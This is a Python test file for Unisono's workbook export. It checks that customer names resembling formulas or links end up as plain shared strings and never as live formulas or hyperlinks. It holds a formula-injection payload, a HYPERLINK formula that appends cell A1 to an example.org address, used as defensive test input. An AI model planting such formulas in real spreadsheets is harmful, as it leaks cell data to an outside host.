"""Workbooks that Unisono writes, opened by somebody else's program."""

import zipfile
from dataclasses import replace
from io import BytesIO

from tests.companies import bakery
from unisono.storage.writing import workbook_bytes

WICKED = '=HYPERLINK("http://example.org/?"&A1;"look")'


def test_a_name_is_never_a_formula_or_a_link() -> None:
    """Names that look like formulas or addresses are written as texts: no sheet holds a formula, none a link."""
    data = bakery()
    customers = tuple(replace(customer, name=WICKED) for customer in data.customers)
    products = tuple(replace(product, id=f"https://example.org/{product.id}") for product in data.products)
    with zipfile.ZipFile(BytesIO(workbook_bytes(replace(data, customers=customers, products=products)))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert b"HYPERLINK" in parts["xl/sharedStrings.xml"]
    sheets = [content for name, content in parts.items() if name.startswith("xl/worksheets/")]
    assert not [content for content in sheets if b"<f>" in content or b"<f " in content or b"hyperlink" in content]
